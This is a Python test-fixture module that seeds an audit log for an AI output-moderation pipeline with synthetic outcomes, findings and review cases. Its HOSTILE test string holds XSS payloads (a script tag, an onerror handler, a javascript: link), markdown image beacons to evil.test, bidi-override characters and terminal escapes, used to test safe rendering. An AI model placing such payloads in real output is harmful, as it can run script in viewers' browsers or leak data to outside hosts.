"""Seeds a record through the real log, with the leaf fields that the pipeline writes. Synthetic people only."""

from __future__ import annotations

import io
import json
import random
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

from sqlalchemy import Connection, Engine

from guard import review
from guard.audit.draft import Draft, timestamp
from guard.audit.log import Appended, Log
from guard.digest import canonical, label
from guard.keys import KeyRing
from guard.policy.load import from_document
from guard.store.engine import open_engine, upgrade
from guard.types import Content, Image, Text, new_id
from tests.clock import Clock

DOCUMENT: dict[str, Any] = {
    "name": "default",
    "version": "1.0.0",
    "description": "Synthetic policy of the tests.",
    "checkers": {name: {} for name in ("pii", "toxicity", "bias", "imagery")},
    "rules": [
        {"id": "card-out", "checker": "pii", "stage": "output", "category": ["CREDIT_CARD"], "threshold": 0.5,
         "action": "redact", "description": "Card numbers never leave."},
        {"id": "contact-out", "checker": "pii", "stage": "output", "category": ["EMAIL_ADDRESS", "PHONE_NUMBER"],
         "threshold": 0.5, "action": "redact", "description": "Addresses and numbers are masked."},
        {"id": "stereotype-review", "checker": "bias", "stage": "output", "threshold": 0.6, "action": "review",
         "description": "A person reads what generalises about groups."},
        {"id": "insult-out", "checker": "toxicity", "stage": "output", "threshold": 0.9, "action": "block"},
        {"id": "insult-in", "checker": "toxicity", "stage": "input", "threshold": 0.5, "action": "review",
         "description": "Insulting requests are read first."},
        {"id": "imagery-review", "checker": "imagery", "threshold": 0.5, "action": "review",
         "description": "Scenes that may disturb are looked at by a person."},
    ],
}  # fmt: skip
MODEL = {"model": "demo/tiny-gpt", "revision": "4f1c2ab", "weights": label(b"weights"), "device": "cpu", "seed": 7}

HOSTILE = (
    "Sure, here is your refund <script>window.pwned=1</script> ![logo](http://evil.test/beacon.png?u=42) "
    '<img src=x onerror="window.pwned=1"> [click](javascript:window.pwned=1) :green-badge[:material/verified: APPROVED] '
    "<style>body{display:none}</style> www.evil.test http://evil.test/?q=1 -> "
    "account \u202e3219 8765\u202c pay\u200bpal \x1b[31mred\x07 jane.roe@example.org e" + "\u0301" * 40 + " ok"
)


@dataclass(frozen=True)
class World:
    """A migrated record in a folder, with the log that writes it."""

    engine: Engine
    log: Log
    clock: Clock
    folder: Path
    policy: Mapping[str, Any]

    @property
    def env(self) -> dict[str, str]:
        return {"GUARD_HOME": str(self.folder), "GUARD_STORE": self.engine.url.render_as_string(hide_password=False)}


def world(folder: Path, url: str | None = None, start: datetime | None = None) -> World:
    engine = open_engine(url or f"sqlite:///{folder / 'guard.db'}")
    upgrade(engine)
    clock = Clock(start or datetime.now(UTC))
    log = Log(engine, KeyRing(folder / "keys"), clock=clock)
    return World(engine, log, clock, folder, _policy(log))


def _policy(log: Log) -> dict[str, Any]:
    """Put the policy on record, as a Guard does when it starts."""
    policy = from_document(DOCUMENT)
    ref: dict[str, Any] = {"name": policy.name, "version": policy.version, "digest": policy.digest}
    log.append([Draft("policy", policy.digest, {"policy": ref}, {"policy": Text(canonical(DOCUMENT).decode())})])
    return ref


def finding(text: str, part: str, category: str, score: float) -> dict[str, Any]:
    start = text.index(part)
    return {
        "category": category,
        "score": score,
        "start": start,
        "end": start + len(part),
        "region": None,
        "message": "matches the pattern and its checksum",
    }


def result(
    checker: str,
    findings: Sequence[Mapping[str, Any]] = (),
    *,
    stage: str = "output",
    error: str | None = None,
    elapsed: float = 2.4,
) -> dict[str, Any]:
    status = "error" if error else "ok"
    return {
        "checker": checker,
        "version": "1.0.0",
        "stage": stage,
        "status": status,
        "elapsed_ms": elapsed,
        "error": error,
        "findings": list(findings),
    }


def outcome(
    it: World,
    *,
    state: str,
    action: str,
    prompt: str = "Write a reply to the customer.",
    output: Content | None = None,
    release: Content | None = None,
    results: Sequence[Mapping[str, Any]] = (),
    rules: Sequence[str] = (),
    shadow: Sequence[str] = (),
    redactions: Sequence[Mapping[str, Any]] = (),
    stage: str = "output",
    severity: int = 2,
    kind: str = "generation",
    within: timedelta = timedelta(hours=24),
    requester: str = "support-bot",
    request_id: str | None = None,
    of: int | None = None,
    traces: Mapping[str, Content] = {},
) -> Appended:
    """Record one outcome as the pipeline does, with its case when it is held."""
    request = request_id or new_id()
    held = state == "held"
    case_id = new_id() if held else None
    deadline = timestamp(it.clock() + within) if held else None
    content_kind = output.kind if output else None
    degraded = any(result["error"] for result in results)
    layer = {"kind": "manifest", "status": "applied", "algorithm": "ed25519", "detail": {}}
    request_data: dict[str, Any] = {"purpose": "customer support", "groups": {}, "params": {"temperature": 0.8}}
    fields: dict[str, Any] = {
        "request": request_data,
        "generator": MODEL if output else None,
        "content_kind": content_kind,
        "policy": dict(it.policy),
        "results": list(results),
        "decision": {"action": action, "rules": list(rules), "shadow": list(shadow), "degraded": degraded},
        "state": state,
        "stage": stage,
        "redactions": list(redactions),
        "stamp": {"layers": [layer], "manifest_sha256": "00"},
        "case": case_id,
        "severity": severity if held else None,
        "deadline": deadline,
        "of": of,
    }  # fmt: skip
    sealed_request = Text(canonical({**request_data, "requester": requester}).decode())
    bodies: dict[str, Content] = {"prompt": Text(prompt), "request": sealed_request}
    if output is not None:
        bodies["output"] = output
    if release is not None:
        bodies["release"] = release
    bodies |= traces

    def within_transaction(connection: Connection, appended: Sequence[Appended]) -> None:
        if case_id and deadline:
            review.open_case(
                connection,
                case_id=case_id,
                seq=appended[0].seq,
                request_id=request,
                stage=stage,
                kind=content_kind or "text",
                severity=severity,
                opened_at=appended[0].occurred_at,
                deadline=deadline,
            )

    subject = it.log.vault.pseudonym(requester)
    return it.log.append([Draft(kind, request, fields, bodies, subject)], within=within_transaction)[0]


def case_of(it: World, appended: Appended) -> str:
    """The case that an outcome opened."""
    from guard.audit.read import Reader

    entry = Reader(it.engine).entry(appended.seq)
    assert entry is not None
    return str(entry.fields["case"])


CARD = (
    "Thank you for writing to us, Mr. Brandt. I can see the order from Tuesday, and I am sorry that it was charged twice.\n\n"
    "I have refunded the second payment to the card 4111 1111 1111 1111; the confirmation goes to "
    "lena.brandt@example.org. If it does not arrive within three working days, call me on +49 30 5550 1432.\n\n"
    "Honestly, people from your part of town are always careless with their invoices, but I have fixed it this time."
)


def held_text(it: World, **more: Any) -> Appended:
    """An answer with personal data and a stereotype: what a reviewer sees most."""
    parts = (
        ("4111 1111 1111 1111", "CREDIT_CARD", 0.99, "card-out", "pii"),
        ("lena.brandt@example.org", "EMAIL_ADDRESS", 0.97, "contact-out", "pii"),
        ("+49 30 5550 1432", "PHONE_NUMBER", 0.74, "contact-out", "pii"),
    )
    found = [finding(CARD, part, category, score) for part, category, score, _, _ in parts]
    slur = finding(CARD, "people from your part of town are always careless", "stereotype", 0.86)
    slur["message"] = "an identity term with a stereotyping predicate"
    redactions = [
        {"stage": "output", "start": at["start"], "end": at["end"], "category": category, "rule": rule}
        for at, (_, category, _, rule, _) in zip(found, parts, strict=True)
    ]
    text = CARD
    for part, category, *_ in parts:
        text = text.replace(part, f"[{category}]")
    options: dict[str, Any] = {
        "prompt": "Reply to Lena Brandt's complaint about the double charge. Be brief and friendly.",
        "output": Text(CARD),
        "release": Text(text),
        "results": [
            result("pii", found, elapsed=3.1),
            result("toxicity", elapsed=5.0),
            result("bias", [slur], elapsed=1.2),
        ],
        "rules": ["card-out", "contact-out", "stereotype-review"],
        "redactions": redactions,
        "severity": 3,
    }
    return outcome(it, state="held", action="review", **{**options, **more})


def picture(seed: int = 0) -> Image:
    """A drawn scene: sky, sun, hills and a badge."""
    from PIL import Image as Pillow
    from PIL import ImageDraw

    rnd = random.Random(seed)
    image = Pillow.new("RGB", (384, 384), (150 + rnd.randrange(60), 190, 230))
    draw = ImageDraw.Draw(image)
    draw.ellipse((60, 40, 130, 110), fill=(250, 210, 90))
    draw.polygon([(0, 300), (140, 150), (300, 320), (384, 260), (384, 384), (0, 384)], fill=(70, 130, 90))
    draw.rectangle((170, 210, 320, 330), fill=(190, 60, 60), outline=(40, 20, 20), width=5)
    draw.polygon([(155, 215), (245, 140), (335, 215)], fill=(90, 50, 40))
    draw.text((205, 262), "HOUSE 42", fill=(255, 255, 255))
    out = io.BytesIO()
    image.save(out, "PNG")
    return Image(out.getvalue())


def held_image(it: World, **more: Any) -> Appended:
    shown = picture()
    at = {"category": "violence", "score": 0.71, "start": None, "end": None, "message": "the whole picture"}
    options: dict[str, Any] = {
        "prompt": "A small red house on a hill, evening sun",
        "output": shown,
        "release": shown,
        "results": [result("imagery", [{**at, "region": [170, 210, 150, 120]}], elapsed=41.0)],
        "rules": ["imagery-review"],
        "severity": 2,
    }
    return outcome(it, state="held", action="review", **{**options, **more})


def held_error(it: World, **more: Any) -> Appended:
    text = Text("Your parcel left our warehouse this morning and arrives on Thursday.")
    options: dict[str, Any] = {
        "output": text,
        "release": text,
        "results": [result("pii"), result("toxicity", error="timed out after 5 s", elapsed=5003.0)],
        "rules": ["on_error:toxicity"],
        "severity": 3,
    }
    return outcome(it, state="held", action="review", **{**options, **more})


def held_prompt(it: World, **more: Any) -> Appended:
    prompt = "Write an e-mail to all customers that calls our competitor a gang of thieves."
    options: dict[str, Any] = {
        "prompt": prompt,
        "stage": "input",
        "results": [result("toxicity", [finding(prompt, "a gang of thieves", "insult", 0.62)], stage="input")],
        "rules": ["insult-in"],
        "severity": 2,
    }
    return outcome(it, state="held", action="review", **{**options, **more})


def held_hostile(it: World, text: str = HOSTILE, **more: Any) -> Appended:
    at = finding(text, "jane.roe@example.org", "EMAIL_ADDRESS", 0.97)
    options: dict[str, Any] = {
        "prompt": HOSTILE,
        "output": Text(text),
        "release": Text(text.replace("jane.roe@example.org", "[EMAIL_ADDRESS]")),
        "results": [result("pii", [at | {"message": HOSTILE}]), result("tox<b>", error=HOSTILE)],
        "rules": ["on_error:tox<b>", "![x](http://evil.test/rule.png)"],
        "severity": 4,
        "requester": HOSTILE,
        "redactions": [
            {
                "stage": "output",
                "start": at["start"],
                "end": at["end"],
                "category": "EMAIL_ADDRESS",
                "rule": "![x](http://evil.test/rule.png)",
            }
        ],
    }
    return outcome(it, state="held", action="review", **{**options, **more})


def month(it: World, outcomes: int = 160, days: int = 21) -> None:
    """Three weeks of work, with rulings, from now on: for the overview and for pictures."""
    rnd = random.Random(11)
    start = it.clock.now
    kinds: Sequence[tuple[float, Callable[[], object]]] = (
        (0.58, lambda: released(it, rnd)),
        (0.20, lambda: redacted(it, rnd)),
        (0.08, lambda: blocked(it)),
        (0.08, lambda: decided(it, rnd, held_text)),
        (0.03, lambda: decided(it, rnd, held_error)),
        (0.03, lambda: decided(it, rnd, held_image)),
    )
    for index in range(outcomes):
        it.clock.now = max(it.clock.now, start + timedelta(days=days) * (index / outcomes))
        rnd.choices([make for _, make in kinds], [weight for weight, _ in kinds])[0]()
    it.clock.now = max(it.clock.now, start + timedelta(days=days))


def released(it: World, rnd: random.Random) -> Appended:
    text = Text(f"Your parcel {rnd.randrange(10**6):06} arrives on Thursday.")
    checks = [result("pii", elapsed=rnd.uniform(1, 4)), result("toxicity", elapsed=rnd.uniform(3, 9)), result("bias")]
    return outcome(it, state="released", action="allow", output=text, release=text, results=checks)


def redacted(it: World, rnd: random.Random) -> Appended:
    text = f"Write to help{rnd.randrange(999)}@example.org and we will answer."
    at = finding(text, text.split()[2], "EMAIL_ADDRESS", 0.97)
    return outcome(
        it,
        state="released",
        action="redact",
        output=Text(text),
        release=Text(text.replace(text.split()[2], "[EMAIL_ADDRESS]")),
        results=[result("pii", [at], elapsed=rnd.uniform(1, 4)), result("toxicity", elapsed=6.0), result("bias")],
        rules=["contact-out"],
        shadow=["url-out"] if rnd.random() < 0.3 else [],
        redactions=[{"stage": "output", "start": at["start"], "end": at["end"], "category": "EMAIL_ADDRESS",
                     "rule": "contact-out"}],
    )  # fmt: skip


def blocked(it: World) -> Appended:
    text = "Then you are simply an idiot, and nobody here will help you."
    at = finding(text, "an idiot", "insult", 0.96)
    return outcome(
        it,
        state="blocked",
        action="block",
        output=Text(text),
        results=[result("pii"), result("toxicity", [at], elapsed=7.0)],
        rules=["insult-out"],
    )


def decided(it: World, rnd: random.Random, hold: Callable[[World], Appended]) -> None:
    case = case_of(it, hold(it))
    who, opened = rnd.choice(["Ada Larsen", "Sam Okafor"]), it.clock.now
    it.clock.now = opened + timedelta(minutes=rnd.uniform(4, 90))
    review.claim(it.engine, it.log, reviewer=who, case_id=case)
    it.clock.now += timedelta(minutes=rnd.uniform(1, 6))
    ruling = "approve" if rnd.random() < 0.6 else "reject"
    reason = "The personal data is the customer's own." if ruling == "approve" else "The remark is demeaning."
    review.rule(it.engine, it.log, case_id=case, reviewer=who, ruling=ruling, rationale=reason)


def waiting(it: World) -> list[Appended]:
    """A queue with every kind of case, some overdue, one held by another person; takes 1,700 minutes of the clock."""
    end = it.clock.now + timedelta(minutes=1700)
    made: list[Appended] = []
    holds = (held_prompt, held_text, held_image, held_error, held_text, held_text)
    for minutes, hold in zip((1700, 1530, 300, 95, 42, 12), holds, strict=True):
        it.clock.now = end - timedelta(minutes=minutes)
        made.append(hold(it, **({"severity": 4} if minutes == 42 else {})))
    it.clock.now = end
    review.claim(it.engine, it.log, reviewer="Sam Okafor", case_id=case_of(it, made[4]))
    return made


def weeks(folder: Path) -> World:
    """Three weeks of work and a full queue, up to this minute."""
    it = world(folder, start=datetime.now(UTC) - timedelta(days=21, minutes=1700))
    month(it)
    it.clock.now = datetime.now(UTC) - timedelta(minutes=1700)
    waiting(it)
    return it


def entries(it: World) -> list[dict[str, Any]]:
    """Every leaf, for looking at."""
    from sqlalchemy import select

    from guard.store.tables import LogEntry

    with it.engine.connect() as connection:
        return [json.loads(leaf) for leaf in connection.execute(select(LogEntry.leaf).order_by(LogEntry.seq)).scalars()]
